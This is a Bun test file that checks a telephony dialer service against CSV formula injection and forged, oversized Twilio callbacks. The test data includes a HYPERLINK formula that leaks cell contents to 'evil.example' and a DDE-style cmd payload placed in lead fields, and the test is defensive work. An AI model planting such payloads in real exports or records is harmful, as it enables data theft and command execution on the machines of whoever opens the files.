import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { parse } from 'csv-parse/sync'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { TwilioEmulator } from '../emulators/twilio/emulator'
import { signTwilioRequest } from '../../src/telephony/twilio/signature'
import { startClock, type RunningClock } from './daytime-clock'
import { serviceCommand, spawnService, type RunningService } from './spawn-service'

setDefaultTimeout(60_000)

/**
 * Two attacks on the service as shipped (the compiled binary in CI, started from an empty
 * folder), with a Twilio carrier against the emulator over loopback:
 * - formula injection: leads, a campaign, an SDR and an outcome whose text a spreadsheet would
 *   run; every CSV export writes them with a leading ' and leaves phone numbers as they are;
 * - forged callbacks: a 0.9 MB form to a real call's callback URL is 413 at once, a form of
 *   201 fields 400, and a signed callback still works.
 */
const ADMIN = 'dat_security_binary_0123456789abcdef01'
const SID = `AC${'d4'.repeat(16)}`
const TOKEN = 'c'.repeat(32)
const CALLER = '+12125550100'
const PHONE = '+12125553100'
const FORMULAS = {
  name: '=HYPERLINK("http://evil.example/?x="&A1)',
  external_id: "+cmd|' /C calc'!A0",
  address: '@SUM(1+1)',
  email: '-attacker@example.com',
  campaign: '=1+1 roofs',
  sdr: '@Alex',
  label: '=label()',
  note: '-2+3',
}
const TRIGGER = /^[=+\-@\t\r]/

describe('formula injection and forged callbacks against the binary', () => {
  const work = { path: mkdtempSync(join(tmpdir(), 'dialer-security-')) }
  const command = serviceCommand(work.path)
  const emulator = TwilioEmulator.start({ accounts: [{ sid: SID, authToken: TOKEN, callerIds: [CALLER] }], speed: 50 })
  let service: RunningService
  let clock: RunningClock | null = null
  let auth = ''
  let leadId = ''
  let callId = ''

  const request = async (method: string, path: string, headers: Record<string, string>, body?: unknown) => {
    const r = await fetch(`${service.base}${path}`, { method, headers: { 'content-type': 'application/json', ...headers }, body: body === undefined ? undefined : JSON.stringify(body) })
    const text = await r.text()
    return { status: r.status, text, body: text.startsWith('{') ? JSON.parse(text) : null }
  }
  const api = (method: string, path: string, body?: unknown) => request(method, `/api/v1/external${path}`, { authorization: auth }, body)
  const admin = (method: string, path: string, body?: unknown) => request(method, `/api/v1/admin${path}`, { authorization: `Bearer ${ADMIN}` }, body)

  beforeAll(async () => {
    service = await spawnService({
      command, dataDir: join(work.path, 'data'), cwd: work.path,
      env: { PATH: process.env.PATH ?? '', HOME: work.path, DIALER_ADMIN_TOKEN: ADMIN, DIALER_FAKE_CLOCK: '1', DIALER_LOG_REQUESTS: '1' },
    })
    clock = await startClock(service.base, ADMIN)
    const org = await admin('POST', '/orgs', {
      name: 'Acme Roofing', plan_requests_per_minute: 100000,
      carrier: { kind: 'twilio', account_sid: SID, auth_token: TOKEN, caller_ids: [CALLER], api_base_url: emulator.url },
    })
    expect(org.status).toBe(201)
    const campaign = await admin('POST', `/orgs/${org.body.data.id}/campaigns`, {
      name: FORMULAS.campaign, status: 'active', lines: 2, sdrs: [{ name: FORMULAS.sdr, phone: '+13125550150' }],
    })
    expect(campaign.status).toBe(201)
    const key = await admin('POST', `/orgs/${org.body.data.id}/keys`, { name: 'live', mode: 'live', requests_per_minute: 100000, burst: 100000 })
    auth = `Basic ${btoa(`${key.body.data.id}:${key.body.data.secret}`)}`
    // Scenario 00: a person answers and the SDR takes the call.
    const lead = await api('POST', '/leads', {
      campaign_id: campaign.body.data.id, phone: PHONE, name: FORMULAS.name, external_id: FORMULAS.external_id,
      address: FORMULAS.address, email: FORMULAS.email, fields: { note: '=1+1' },
    })
    expect(lead.status).toBe(201)
    leadId = lead.body.data.id
    const deadline = Date.now() + 30_000
    for (;;) {
      const call = (await api('GET', `/calls?lead_id=${leadId}&limit=1`)).body?.data?.[0]
      if (call?.status === 'ended' && call.handled_by.role === 'sdr') {
        callId = call.id
        break
      }
      if (Date.now() > deadline) throw new Error(`the call did not end: ${JSON.stringify(call)}`)
      await Bun.sleep(50)
    }
    expect((await admin('POST', `/calls/${callId}/outcome`, { outcome_label: FORMULAS.label, note: FORMULAS.note })).status).toBe(200)
    expect((await admin('POST', '/jobs/usage_count/run')).status).toBe(200)
  }, 50_000)

  afterAll(async () => {
    await clock?.stop()
    service?.proc.kill('SIGTERM')
    await service?.proc.exited
    await emulator.stop()
    rmSync(work.path, { recursive: true, force: true })
  })

  async function exported(exportType: string): Promise<Record<string, string>[]> {
    const made = await api('POST', '/exports', { exportType })
    expect(made.status).toBe(200)
    expect(made.body.data.export.status).toBe('ready')
    const file = await fetch(made.body.data.downloadUrl)
    expect(file.status).toBe(200)
    return parse(await file.text(), { columns: true }) as Record<string, string>[]
  }

  test('every text cell a spreadsheet would run gets a leading quote in every export; phones, numbers, ids and times are untouched', async () => {
    const [leads, calls, analytics] = [await exported('leads'), await exported('call_history'), await exported('analytics')]
    expect(leads).toHaveLength(1)
    expect(leads[0]).toMatchObject({
      id: leadId, phone: PHONE, name: `'${FORMULAS.name}`, external_id: `'${FORMULAS.external_id}`, address: `'${FORMULAS.address}`,
      email: `'${FORMULAS.email}`, last_outcome_label: `'${FORMULAS.label}`,
    })
    expect(calls).toHaveLength(1)
    expect(calls[0]).toMatchObject({
      id: callId, external_id: `'${FORMULAS.external_id}`, outcome_label: `'${FORMULAS.label}`, note: `'${FORMULAS.note}`, handled_by: `'${FORMULAS.sdr} (sdr)`,
    })
    expect(Number(calls[0]!.duration_seconds)).toBeGreaterThan(0)
    expect(analytics.map((row) => row.campaign_name)).toEqual([`'${FORMULAS.campaign}`])
    for (const row of [...leads, ...calls, ...analytics]) {
      for (const [column, cell] of Object.entries(row)) {
        if (column !== 'phone') expect({ column, cell, formula: TRIGGER.test(cell) }).toEqual({ column, cell, formula: false })
      }
    }
  })

  /** The service's own time for a request, from its JSON request log. */
  async function serverMs(requestId: string | null): Promise<number | null> {
    for (let i = 0; i < 40 && requestId; i++) {
      const line = service.output().split('\n').find((l) => l.includes(`"request_id":"${requestId}"`))
      if (line) return JSON.parse(line).duration_ms
      await Bun.sleep(50)
    }
    return null
  }

  test('a 0.9 MB form to a real call is 413 at once, 201 fields are 400, a signed callback still works', async () => {
    const sid = [...emulator.calls.values()].find((c) => c.to === PHONE)!.sid
    const url = `${service.base}/twilio/calls/${callId}/status`
    const post = (body: string, signature: string) => fetch(url, {
      method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': signature }, body,
    })
    // A forged signature of the right length: before, every field was sorted and hashed for each URL spelling.
    const forged = signTwilioRequest(TOKEN, url, { CallSid: sid })
    let huge = 'f0=x'
    for (let i = 1; huge.length < 900_000; i++) huge += `&f${i}=x`
    expect(huge.length).toBeLessThan(1_000_000)
    const started = performance.now()
    const big = await post(huge, forged)
    const clientMs = performance.now() - started
    const bigText = await big.text()
    const server = await serverMs(big.headers.get('request-id'))
    console.log(`0.9 MB forged callback: ${big.status} in ${clientMs.toFixed(1)} ms at the client, ${server} ms in the service`)
    expect(big.status).toBe(413)
    expect(JSON.parse(bigText).error.code).toBe('payload_too_large')
    expect(clientMs).toBeLessThan(500)

    const fields = (n: number) => Object.fromEntries([['AccountSid', SID], ['CallSid', sid], ['CallStatus', 'completed'], ...Array.from({ length: n - 3 }, (_, i) => [`Extra${i}`, 'x'])])
    const tooMany = await post(new URLSearchParams(fields(201)).toString(), signTwilioRequest(TOKEN, url, fields(201)))
    expect(tooMany.status).toBe(400)
    expect(((await tooMany.json()) as { error: { code: string } }).error.code).toBe('invalid_request')

    // Signed by the account (a replayed final status: answered, changes nothing); and a forged one refused.
    const signed = await post(new URLSearchParams(fields(200)).toString(), signTwilioRequest(TOKEN, url, fields(200)))
    expect(signed.status).toBe(200)
    const wrong = await post(new URLSearchParams(fields(3)).toString(), forged)
    expect(wrong.status).toBe(403)
    const after = await api('GET', `/calls/${callId}`)
    expect(after.body.data).toMatchObject({ status: 'ended', outcome_label: FORMULAS.label })
  })
})
